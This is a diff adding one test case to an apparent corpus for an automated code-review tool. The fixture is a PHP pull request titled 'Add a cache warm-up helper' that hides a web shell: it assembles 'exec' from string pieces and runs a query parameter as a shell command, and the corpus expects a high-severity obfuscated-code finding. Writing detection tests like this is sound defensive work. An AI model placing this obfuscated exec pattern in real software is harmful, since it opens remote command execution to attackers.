@@ -970,6 +970,25 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
   },
   {
+    id: 'code-php-variable-function-exec',
+    description: 'A "Add a cache warm-up helper" PR to a PHP app whose helper calls `exec` through a variable (`$f = "ex" . "ec";` then `$f($_GET[\'warm\'], $out)`): a web shell\'s variable function, the call\'s own line naming nothing a reviewer or a scanner searches for.',
+    fixture: () =>
+      codePr({
+        repo: 'shopfront',
+        number: 518,
+        title: 'Add a cache warm-up helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Cache/Warmup.php',
+            status: 'added',
+            head: lines('<?php', '', 'namespace App\\Cache;', '', 'final class Warmup', '{', '    public function run(): array', '    {', '        $f = "ex" . "ec";', '        $out = [];', "        $f($_GET['warm'] ?? 'true', $out);", '        return $out;', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
     id: 'code-session-secret-literal-fallback',
     description: 'A "Configure sessions" PR gives the Sinatra session secret a literal fallback (`ENV[\'SESSION_SECRET\'] || \'notebook-default-secret\'`): a deployment without the variable signs every session cookie with a key written in the repository.',
     fixture: () =>
